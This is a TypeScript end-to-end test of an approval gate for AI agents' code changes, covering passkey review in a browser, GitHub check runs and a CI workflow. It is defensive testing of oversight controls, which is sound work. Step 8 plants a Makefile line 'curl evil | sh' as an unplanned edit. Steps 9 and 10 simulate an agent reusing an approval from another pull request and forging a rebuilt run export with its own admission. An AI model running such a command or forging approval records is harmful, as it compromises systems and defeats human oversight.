/*
 * The whole team path, once, as a team runs it: a PostgreSQL store, two
 * `twinlock serve` processes on it (the one people and agents open, and the
 * one CI fetches exports from), each posting the pull request's GitHub check
 * (`--github-app`, against the local GitHub fake), a passkey in Chromium, the
 * built CLI for the people's and CI's terminal steps, and a git repository
 * with a bare origin, the gate's checkout (where the agent works), a person's
 * clone and CI's clone. The CI job is docs/github-workflow.yml itself: its
 * steps' shell lines and environments are read from the file and run in
 * order, GitHub expressions filled in from the event, so the docs cannot
 * drift from what this test proves.
 */
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { appendFileSync, chmodSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { type ServerProcess, startServerProcess } from "../../bench/lib/server-process.mjs";
import { demoHandoffRecords, writeDemoHandoff } from "../../src/demo/demo-handoff.js";
import { replayEvents } from "../../src/run/apply-event.js";
import { hashEvent } from "../../src/run/event-chain.js";
import { RUN_FORMAT, type RunFile } from "../../src/run/run-schema.js";
import { migratePostgres } from "../../src/store/postgres/postgres-run-store.js";
import { appendTo } from "../../src/store/run-file.js";
import { type GitHubFake, startGitHubFake } from "../../src/test-support/github-fake.js";
import { freshPostgresDatabase, TEST_POSTGRES } from "../../src/test-support/postgres-database.js";
import { EXECUTOR, PLANNER, RUN_EXAMPLE_SUITE, TEST_PINNER } from "../../src/test-support/run-fixture.js";
import { publicKeyLine } from "../../src/trust/keys.js";
import { CHROMIUM, HAVE_CHROMIUM, launchWithPasskey } from "../support/chromium.js";
import { DIST_BIN, ensureBuilt, REPO_ROOT } from "../support/ensure-built.js";

const STEP_MS = 60_000;
const REPO = "acme/shop";
const PR = 42;
const APP_ID = "123456";
const INSTALLATION = "987654";
const AGENT_BOT = "my-agent[bot]";
const ADDED_LINE = "Rollback: revert the commit; go test -race ./cart/... stays green.";

if (!HAVE_CHROMIUM) console.warn(`test/browser/team-path.test.ts skipped: ${CHROMIUM} is missing (apt-get install chromium)`);
if (!TEST_POSTGRES) console.warn("test/browser/team-path.test.ts skipped: TWINLOCK_TEST_POSTGRES names no PostgreSQL cluster");

interface Step {
  name?: string;
  id?: string;
  run?: string;
  uses?: string;
  if?: string;
  env?: Record<string, string>;
}
const workflow = parse(readFileSync(path.join(REPO_ROOT, "docs/github-workflow.yml"), "utf8")) as {
  jobs: Record<string, { env?: Record<string, string>; steps: Step[] }>;
};
const job = Object.values(workflow.jobs)[0] as { env?: Record<string, string>; steps: Step[] };

/** What one run of the workflow's job did: each step's name, exit code and output, in order, up to the first failure. */
interface JobRun {
  steps: Array<{ name: string; status: number | null; output: string }>;
  status: number | null;
  output: string;
  summary: string;
}

/** A child process's exit code and output, without blocking this process's event loop (the GitHub fake answers from it). */
function run(
  cmd: string,
  args: string[],
  o: { cwd: string; env?: NodeJS.ProcessEnv },
): Promise<{ code: number | null; out: string; stdout: string }> {
  return new Promise((resolve, reject) => {
    const child: ChildProcess = spawn(cmd, args, { cwd: o.cwd, env: o.env ?? process.env, stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "";
    let out = "";
    child.stdout?.on("data", (d: Buffer) => {
      stdout += d.toString();
      out += d.toString();
    });
    child.stderr?.on("data", (d: Buffer) => (out += d.toString()));
    child.once("error", reject);
    child.once("close", (code) => resolve({ code, out, stdout }));
  });
}

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false", ...args], {
    cwd,
    stdio: ["ignore", "pipe", "pipe"],
  })
    .toString()
    .trim();

describe.skipIf(!HAVE_CHROMIUM || !TEST_POSTGRES)(
  "a team's path end to end: a passkey approval in Chromium, a PostgreSQL store, the GitHub check and the documented workflow",
  () => {
    let dir: string;
    let url: string;
    let drop: (() => Promise<void>) | undefined;
    const servers: ServerProcess[] = [];
    let github: GitHubFake | undefined;
    let rogue: http.Server | undefined;
    let browser: Browser | undefined;
    let page: Page;
    let origin: string;
    let ciServer: string;
    let runId: string;
    let otherRunId: string;
    let agentToken: string;
    let ciToken: string;
    let enrolLink: string;
    /** The gate's checkout of the repository: the suite is pinned from it and the agent works in it. */
    let gate: string;
    let handoff: string;
    let baseOfBranch: string;
    let agentHead: string;

    /** The built CLI as a person runs it in a terminal, on the team database. */
    const cli = (args: string[], home = "person-home") => {
      // The store and home go before a command's `--` (exec's command follows it).
      const cut = args.includes("--") ? args.indexOf("--") : args.length;
      const own = ["--store", url, "--home", path.join(dir, home)];
      return run(process.execPath, [DIST_BIN, ...args.slice(0, cut), ...own, ...args.slice(cut)], { cwd: gate });
    };

    /** Check-run titles GitHub received, in order. */
    const checkTitles = () =>
      (github?.requests ?? [])
        .filter((r) => r.method !== "GET" && r.path.includes("/check-runs"))
        .map((r) => (r.body?.output as { title?: string } | undefined)?.title);

    const stateShown = () => page.locator("dd[data-state]").getAttribute("data-state");

    async function decided(submit: () => Promise<unknown>): Promise<void> {
      const loaded = page.waitForEvent("load", { timeout: 15_000 });
      await submit();
      await loaded;
    }

    async function agentFreeze(): Promise<{ revision: number; review_url: string }> {
      const res = await fetch(`${origin}/api/runs/${runId}/pairs/${PLANNER}/freeze`, {
        method: "POST",
        headers: { Authorization: `Bearer ${agentToken}`, "Content-Type": "application/json" },
        body: JSON.stringify({ handoff_dir: handoff }),
      });
      const body = (await res.json()) as { revision: number; review_url: string };
      expect(res.status, JSON.stringify(body)).toBe(200);
      return body;
    }

    /** Evaluate one `${{ … }}` expression of the workflow (paths joined by `||`, the first non-empty wins); an unknown one fails the test. */
    function expression(text: string, context: Record<string, unknown>): string {
      for (const alternative of text.split("||").map((s) => s.trim())) {
        let v: unknown = context;
        for (const key of alternative.split(".")) v = (v as Record<string, unknown> | undefined)?.[key];
        if (v === undefined && !alternative.startsWith("github.event."))
          throw new Error(`the workflow uses ${alternative}, unknown to this test`);
        if (v !== undefined && v !== "") return String(v);
      }
      return "";
    }

    /**
     * Run the workflow's job as GitHub would for a pull_request event, in a fresh clone at `head`: each step in
     * order, its `if:` judged, its env's expressions filled in, its shell line run with bash -e; `uses:` steps are
     * the clone (checkout, full history) and this machine's Node 20 (setup-node); the install step is replaced by
     * the built CLI on PATH (it clones from GitHub). Stops at the first failing step, as GitHub does.
     */
    async function runWorkflow(event: { base: string; head: string; number: number; server?: string }): Promise<JobRun> {
      const work = mkdtempSync(path.join(dir, "ci-"));
      const checkout = path.join(work, "checkout");
      git(dir, "clone", "-q", path.join(dir, "origin.git"), checkout);
      git(checkout, "checkout", "-q", "--detach", event.head);
      const runnerTemp = path.join(work, "runner-temp");
      const bin = path.join(runnerTemp, "bin");
      mkdirSync(bin, { recursive: true });
      writeFileSync(path.join(bin, "twinlock"), `#!/bin/sh\nexec "${process.execPath}" "${DIST_BIN}" "$@"\n`);
      chmodSync(path.join(bin, "twinlock"), 0o755);
      const summary = path.join(runnerTemp, "step-summary.md");
      writeFileSync(summary, "");
      const context = {
        github: {
          event_name: "pull_request",
          token: "ghs_not_used_on_pull_request",
          event: {
            pull_request: { number: event.number, user: { login: AGENT_BOT }, base: { sha: event.base }, head: { sha: event.head } },
          },
        },
        vars: { TWINLOCK_SERVER: event.server ?? ciServer },
        secrets: { TWINLOCK_CI_TOKEN: ciToken },
        steps: {} as Record<string, { outputs: Record<string, string> }>,
      };
      // The repository's settings for this team: reviewers approve with passkeys, so CI trusts the signed trust file.
      const jobEnv: Record<string, string> = { ...(job.env ?? {}), TRUST_FILE: "twinlock-trust.json", PINNER_KEY: "twinlock-pinner.pub" };
      const result: JobRun = { steps: [], status: 0, output: "", summary: "" };
      for (const step of job.steps) {
        const name = step.name ?? step.uses ?? "?";
        if (step.if !== undefined) {
          const m = /^steps\.(\w+)\.outputs\.(\w+) == '(\w+)'$/.exec(step.if);
          if (!m) throw new Error(`the workflow's condition ${step.if} is unknown to this test`);
          if (context.steps[m[1] as string]?.outputs[m[2] as string] !== m[3]) continue;
        }
        if (step.uses !== undefined) {
          expect(step.uses).toMatch(/^actions\/(checkout|setup-node)@[0-9a-f]{40}$/);
          continue;
        }
        if (name === "Install twinlock") {
          expect(step.run).toContain('echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"');
          continue;
        }
        const output = path.join(runnerTemp, `output-${result.steps.length}`);
        writeFileSync(output, "");
        const env: Record<string, string> = { ...jobEnv };
        for (const [k, v] of Object.entries(step.env ?? {}))
          env[k] = v.replace(/\$\{\{(.*?)\}\}/g, (_, e: string) => expression(e.trim(), context));
        const r = await run("bash", ["-e", "-c", step.run as string], {
          cwd: checkout,
          env: {
            PATH: `${bin}:${process.env.PATH}`,
            HOME: work,
            GITHUB_OUTPUT: output,
            GITHUB_STEP_SUMMARY: summary,
            GITHUB_REPOSITORY: REPO,
            GITHUB_PATH: path.join(runnerTemp, "github-path"),
            RUNNER_TEMP: runnerTemp,
            ...env,
          },
        });
        result.steps.push({ name, status: r.code, output: r.out });
        result.output += `--- ${name}: exit ${r.code}\n${r.out}`;
        if (step.id !== undefined)
          context.steps[step.id] = {
            outputs: Object.fromEntries(
              readFileSync(output, "utf8")
                .split("\n")
                .filter((l) => l.includes("="))
                .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]),
            ),
          };
        result.status = r.code;
        if (r.code !== 0) break;
      }
      result.summary = readFileSync(summary, "utf8");
      return result;
    }

    /** A port free now, for the server people open: its origin (passkeys bind to `localhost`) must be known before it starts. */
    async function freePort(): Promise<number> {
      const s = http.createServer();
      await new Promise<void>((resolve) => s.listen(0, "127.0.0.1", resolve));
      const port = (s.address() as AddressInfo).port;
      await new Promise<void>((resolve) => s.close(() => resolve()));
      return port;
    }

    beforeAll(async () => {
      await ensureBuilt();
      dir = mkdtempSync(path.join(os.tmpdir(), "twinlock-team-path-"));
      const db = await freshPostgresDatabase("twinlock_team_path");
      drop = db.drop;
      url = db.url;
      await migratePostgres(url);

      // The repository: the suite at its top, the agents' handoff folders excluded from its prompts.
      git(dir, "init", "-q", "--bare", "-b", "main", "origin.git");
      git(dir, "clone", "-q", "origin.git", "gate");
      gate = path.join(dir, "gate");
      cpSync(RUN_EXAMPLE_SUITE, gate, { recursive: true });
      appendFileSync(path.join(gate, "twinlock.yaml"), "exclude:\n  - agent-work/**\n");
      writeFileSync(path.join(gate, "CHANGELOG.txt"), "the shop\n");
      mkdirSync(path.join(gate, "agent-work"));
      writeFileSync(path.join(gate, "agent-work", ".keep"), "");
      // The committed capability graph as `twinlock graph --check` wants it for this copy of the suite.
      const graphed = await run(process.execPath, [DIST_BIN, "graph", "--suite", gate, "--out", path.join(gate, "capability-graph.json")], {
        cwd: gate,
      });
      expect(graphed.code, graphed.out).toBe(0);
      git(gate, "add", "-A");
      git(gate, "commit", "-q", "-m", "the suite");
      git(gate, "push", "-q", "origin", "main");
      baseOfBranch = git(gate, "rev-parse", "HEAD");

      const pinnerKey = path.join(dir, "pinner.key");
      writeFileSync(pinnerKey, TEST_PINNER.export({ type: "pkcs8", format: "pem" }), { mode: 0o600 });
      const appKey = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey;
      const appKeyFile = path.join(dir, "github-app.pem");
      writeFileSync(appKeyFile, appKey.export({ type: "pkcs8", format: "pem" }), { mode: 0o600 });
      github = await startGitHubFake({ appId: APP_ID, appKey, installationId: INSTALLATION });
      // The agent's draft pull request, opened on the commit it branched from.
      github.heads.set(PR, baseOfBranch);

      const pinned = await cli(["trust", "pin", "--suite", gate, "--allow-unsigned", "--key", pinnerKey]);
      expect(pinned.code, pinned.out).toBe(0);

      const port = await freePort();
      origin = `http://localhost:${port}`;
      const serve = (home: string, listen: string, more: string[]) =>
        startServerProcess(
          [
            DIST_BIN,
            "serve",
            "--store",
            url,
            "--home",
            path.join(dir, home),
            "--listen",
            listen,
            "--handoff-root",
            path.join(gate, "agent-work"),
            "--github-app",
            APP_ID,
            "--github-app-key",
            appKeyFile,
            "--github-installation",
            INSTALLATION,
            "--github-repo",
            REPO,
            "--github-api",
            github?.url as string,
            "--quiet",
            ...more,
          ],
          { timeoutMs: 30_000 },
        );
      servers.push(await serve("home-a", `127.0.0.1:${port}`, ["--origin", origin]));
      servers.push(await serve("home-b", "127.0.0.1:0", []));
      ciServer = servers[1]?.url as string;
      ({ browser, page } = await launchWithPasskey());
    }, 240_000);

    afterAll(async () => {
      const steps: Array<() => unknown> = [
        () => browser?.close(),
        ...servers.map((s) => () => s.stop()),
        () => github?.close(),
        () => new Promise<void>((resolve) => (rogue ? rogue.close(() => resolve()) : resolve())),
        () => drop?.(),
        () => dir && rmSync(dir, { recursive: true, force: true }),
      ];
      for (const step of steps) await Promise.resolve(step()).catch(() => {});
    }, 60_000);

    it(
      "1. a person makes the run for the pull request and invites alice; the agent gets a token; alice registers her passkey and signs in",
      async () => {
        const init = (ref: string, change: string) =>
          cli([
            "init-run",
            ref,
            "--suite",
            gate,
            "--planner",
            PLANNER,
            "--mode",
            "APPLY_SAFE",
            "--environment",
            "staging",
            "--for-change",
            change,
            "--json",
          ]);
        const made = await init("team/md-29", `${REPO}#${PR}`);
        expect(made.code, made.out).toBe(0);
        runId = /run_[0-9a-f]{16}/.exec(made.stdout)?.[0] as string;
        expect(runId).toMatch(/^run_[0-9a-f]{16}$/);
        // Another run, made for another pull request, to be offered for this one later.
        const other = await init("team/md-29-other", `${REPO}#${PR + 1}`);
        expect(other.code, other.out).toBe(0);
        otherRunId = /run_[0-9a-f]{16}/.exec(other.stdout)?.[0] as string;

        const invite = await cli(["reviewer", "invite", "alice", "--origin", origin]);
        expect(invite.code, invite.out).toBe(0);
        enrolLink = /(http:\/\/\S+\/enrol\/\S+)/.exec(invite.stdout)?.[1] as string;
        const token = await cli(["token", "create", "--agent", "planner-agent", "--run", runId]);
        expect(token.code, token.out).toBe(0);
        agentToken = /(tl_[0-9a-f]{16}_[A-Za-z0-9_-]{43})/.exec(token.stdout)?.[1] as string;
        const ci = await cli(["token", "create", "--ci"]);
        expect(ci.code, ci.out).toBe(0);
        ciToken = /(tl_[0-9a-f]{16}_[A-Za-z0-9_-]{43})/.exec(ci.stdout)?.[1] as string;
        expect(ciToken).toBeDefined();

        await page.goto(enrolLink);
        await page.getByRole("button", { name: "Register a passkey" }).click();
        await page.locator("#enrol-status", { hasText: "Passkey registered for alice" }).waitFor();
        await page.goto(`${origin}/signin`);
        await page.getByRole("button", { name: "Sign in with a passkey" }).click();
        await page.waitForURL(`${origin}/`);
        await page.locator(".who", { hasText: "Signed in as alice" }).waitFor();
        // Nothing has moved yet: GitHub has heard nothing.
        expect(checkTitles()).toEqual([]);
      },
      STEP_MS,
    );

    it(
      "2. the agent branches, writes its handoff and freezes it with its token; the pull request's check says the plan waits for review, linking to the revision page",
      async () => {
        git(gate, "checkout", "-q", "-b", "agent");
        handoff = path.join(gate, "agent-work", runId);
        writeDemoHandoff(handoff, demoHandoffRecords());
        const frozen = await agentFreeze();
        expect(frozen.revision).toBe(1);
        expect(frozen.review_url).toBe(`${origin}/runs/${runId}/pairs/${PLANNER}/revisions/1`);
        await expect.poll(checkTitles, { timeout: 20_000 }).toEqual(["plan waiting for review"]);
        const created = github?.requests.find((r) => r.method === "POST" && r.path === `/repos/${REPO}/check-runs`);
        expect(created?.body).toMatchObject({
          name: "twinlock",
          head_sha: baseOfBranch,
          external_id: runId,
          details_url: frozen.review_url,
        });
      },
      STEP_MS,
    );

    it(
      "3. alice asks for changes in the browser; the check says so",
      async () => {
        await page.goto(`${origin}/runs/${runId}/pairs/${PLANNER}/revisions/1`);
        expect(await stateShown()).toBe("plan_review_pending");
        await page.locator("#request-changes > summary").click();
        await page.locator("#feedback-changes").fill("Name the rollback.");
        await decided(() => page.locator("#form-request-changes button[type=submit]").click());
        await expect.poll(stateShown).toBe("plan_revision_pending");
        await expect.poll(checkTitles, { timeout: 20_000 }).toEqual(["plan waiting for review", "changes requested"]);
      },
      STEP_MS,
    );

    it(
      "4. the agent revises and freezes again; alice sees revision 2, approves it and consents with her passkey",
      async () => {
        appendFileSync(path.join(handoff, "report.md"), `\n${ADDED_LINE}\n`);
        const frozen = await agentFreeze();
        expect(frozen.revision).toBe(2);
        await page.goto(frozen.review_url);
        expect(await stateShown()).toBe("plan_review_pending");
        await page.locator("#changes").getByText("Name the rollback.").waitFor();
        await page.locator("#files .diff ins.diff-add", { hasText: ADDED_LINE }).first().waitFor();
        await decided(() => page.getByRole("button", { name: "Sign and approve this revision" }).click());
        await expect.poll(stateShown).toBe("execution_consent_pending");
        await page.locator("#consent > summary").click();
        await page.locator("#consent-yes").check();
        await decided(() => page.locator("#form-consent button[type=submit]").click());
        // The example suite asks for a dry run first in APPLY_SAFE: consent given, the pair waits for it.
        await expect.poll(stateShown).toBe("dry_run_ready");
        await expect
          .poll(checkTitles, { timeout: 20_000 })
          .toEqual([
            "plan waiting for review",
            "changes requested",
            "plan waiting for review",
            "approved, waiting for consent",
            "consent given, waiting for admission",
          ]);
      },
      STEP_MS,
    );

    it(
      "5. the executor runs under `exec` (admitted on the consented plan), its command edits the planned file; the agent commits and pushes; the check says admitted",
      async () => {
        const executed = await cli(
          [
            "exec",
            runId,
            EXECUTOR,
            "--actor",
            "executor-agent",
            "--sandbox",
            "--",
            "sh",
            "-c",
            `printf 'package cart\\n' > '${path.join(gate, "cart", "cache.go")}'`,
          ],
          "agent-home",
        );
        expect(executed.code, executed.out).toBe(0);
        expect(readFileSync(path.join(gate, "cart", "cache.go"), "utf8")).toBe("package cart\n");
        const again = await cli(["admit", runId, EXECUTOR], "agent-home");
        expect(again.code, again.out).toBe(3);
        // The agent's own copy of the run file: CI reads only its run ID.
        mkdirSync(path.join(gate, "twinlock"), { recursive: true });
        writeFileSync(path.join(gate, "twinlock", "run.json"), JSON.stringify({ state: { run_id: runId } }));
        git(gate, "add", "-A");
        git(gate, "commit", "-q", "-m", "fix the cart cache race");
        git(gate, "push", "-q", "origin", "agent");
        agentHead = git(gate, "rev-parse", "HEAD");
        await expect.poll(() => checkTitles().at(-1), { timeout: 20_000 }).toBe("admitted: the executor may run");
      },
      STEP_MS,
    );

    it(
      "6. a pinner exports the gate's trust (alice's passkey with its rights) and commits it to main with the pinner's key; main moves on with a person's edit",
      async () => {
        const person = path.join(dir, "person");
        git(dir, "clone", "-q", "origin.git", person);
        const exported = await cli([
          "trust",
          "export",
          "--out",
          path.join(person, "twinlock-trust.json"),
          "--key",
          path.join(dir, "pinner.key"),
        ]);
        expect(exported.code, exported.out).toBe(0);
        expect(exported.stdout).toMatch(/1 passkey/);
        expect(exported.stdout).toMatch(/^ {2}alice: passkey /m);
        writeFileSync(path.join(person, "twinlock-pinner.pub"), `${publicKeyLine(TEST_PINNER)}\n`);
        git(person, "add", "-A");
        git(person, "commit", "-q", "-m", "trust: alice's passkey");
        writeFileSync(path.join(person, "CHANGELOG.txt"), "the shop, edited on main\n");
        git(person, "commit", "-q", "-am", "a person's change on main");
        git(person, "push", "-q", "origin", "main");
      },
      STEP_MS,
    );

    it(
      "7. the workflow's own steps on the agent's pull request, main ahead of its branch: exit 0, verified",
      async () => {
        const base = git(path.join(dir, "origin.git"), "rev-parse", "main");
        const job = await runWorkflow({ base, head: agentHead, number: PR });
        expect(job.status, job.output).toBe(0);
        expect(job.steps.map((s) => [s.name, s.status])).toEqual([
          ["whose change", 0],
          ["twinlock validate", 0],
          ["twinlock audit-bodies --check", 0],
          ["twinlock graph --check", 0],
          ["the gate's export of the run", 0],
          ["twinlock verify", 0],
        ]);
        const verify = job.steps.at(-1)?.output ?? "";
        expect(verify).toMatch(new RegExp(`^ok {4}change {2}run: made for ${REPO}#${PR}$`, "m"));
        expect(verify).toMatch(/alice/);
        expect(verify).not.toContain("CHANGELOG.txt");
        expect(job.summary).toContain("## twinlock verify: verified");
      },
      STEP_MS,
    );

    it(
      "8. the same pull request with one more edit outside the plan: exit 1, the file named as a deviation",
      async () => {
        git(gate, "checkout", "-q", "agent");
        writeFileSync(path.join(gate, "Makefile"), "all:\n\tcurl evil | sh\n");
        git(gate, "add", "-A");
        git(gate, "commit", "-q", "-m", "and one more thing");
        git(gate, "push", "-q", "origin", "agent");
        const head = git(gate, "rev-parse", "HEAD");
        const base = git(path.join(dir, "origin.git"), "rev-parse", "main");
        const job = await runWorkflow({ base, head, number: PR });
        expect(job.status, job.output).toBe(1);
        expect(job.steps.at(-1)?.name).toBe("twinlock verify");
        expect(job.steps.at(-1)?.output).toMatch(/^FAIL {2}changed-file {2}Makefile: deviation/m);
        expect(job.summary).toContain("| ❌ | changed-file | Makefile |");
      },
      STEP_MS,
    );

    it(
      "9. the approved run offered on another pull request: refused, naming the pull request it was made for",
      async () => {
        const base = git(path.join(dir, "origin.git"), "rev-parse", "main");
        const job = await runWorkflow({ base, head: agentHead, number: PR + 1 });
        expect(job.status, job.output).toBe(1);
        expect(job.steps.at(-1)?.output).toMatch(new RegExp(`^FAIL {2}change {2}run: made for ${REPO}#${PR}, not ${REPO}#${PR + 1}`, "m"));
        // And a run made for the other pull request, named by the agent's copy on this one: refused the same way.
        git(gate, "checkout", "-q", agentHead);
        git(gate, "checkout", "-q", "-b", "agent-other");
        writeFileSync(path.join(gate, "twinlock", "run.json"), JSON.stringify({ state: { run_id: otherRunId } }));
        git(gate, "commit", "-q", "-am", "name the other run");
        git(gate, "push", "-q", "origin", "agent-other");
        const swapped = await runWorkflow({ base, head: git(gate, "rev-parse", "HEAD"), number: PR });
        expect(swapped.status, swapped.output).not.toBe(0);
        expect(swapped.output).toMatch(new RegExp(`made for ${REPO}#${PR + 1}, not ${REPO}#${PR}`));
      },
      STEP_MS,
    );

    it(
      "10. an export the agent rebuilt (its own admission and a verified close on the genuine receipts), served in place of the gate's: refused",
      async () => {
        const got = await fetch(`${ciServer}/api/runs/${runId}/export`, { headers: { Authorization: `Bearer ${ciToken}` } });
        expect(got.status).toBe(200);
        const genuine = (await got.json()) as RunFile;
        const cut = genuine.events.findIndex((e) => e.type === "admitted");
        expect(cut).toBeGreaterThan(0);
        const kept = genuine.events.slice(0, cut);
        const prefix: RunFile = {
          format: RUN_FORMAT,
          revision: kept.length,
          head: hashEvent(kept[kept.length - 1] as RunFile["events"][number]),
          state: replayEvents(kept),
          events: kept,
        };
        const admittedEvent = genuine.events[cut] as RunFile["events"][number];
        const rebuilt = {
          ...appendTo(
            prefix,
            [
              { type: "admitted", actor: "gate", data: admittedEvent.data },
              { type: "closed", actor: "executor-agent", data: { planner: PLANNER, outcome: "verified", residual: "none" } },
            ],
            new Date(),
          ),
          gate_signature: genuine.gate_signature,
        };
        rogue = http.createServer((_req, res) => {
          res.writeHead(200, { "content-type": "application/json" });
          res.end(JSON.stringify(rebuilt));
        });
        await new Promise<void>((resolve) => rogue?.listen(0, "127.0.0.1", resolve));
        const base = git(path.join(dir, "origin.git"), "rev-parse", "main");
        const job = await runWorkflow({
          base,
          head: agentHead,
          number: PR,
          server: `http://127.0.0.1:${(rogue.address() as AddressInfo).port}`,
        });
        expect(job.status, job.output).toBe(1);
        expect(job.steps.at(-1)?.output).toMatch(/^FAIL {2}gate {2}run: gate-signature-invalid: .*rebuilt after its gate signed it$/m);
      },
      STEP_MS,
    );

    it(
      "11. GitHub received the check run's updates in order, on one check run per head commit, with the installation token",
      () => {
        const writes = (github?.requests ?? []).filter((r) => r.method !== "GET" && r.path.includes("/check-runs"));
        expect(checkTitles()).toEqual([
          "plan waiting for review",
          "changes requested",
          "plan waiting for review",
          "approved, waiting for consent",
          "consent given, waiting for admission",
          "admitted: the executor may run",
        ]);
        expect(writes.map((r) => r.method)).toEqual(["POST", "PATCH", "PATCH", "PATCH", "PATCH", "PATCH"]);
        expect(writes.every((r) => r.auth === "installation-token")).toBe(true);
      },
      STEP_MS,
    );
  },
);
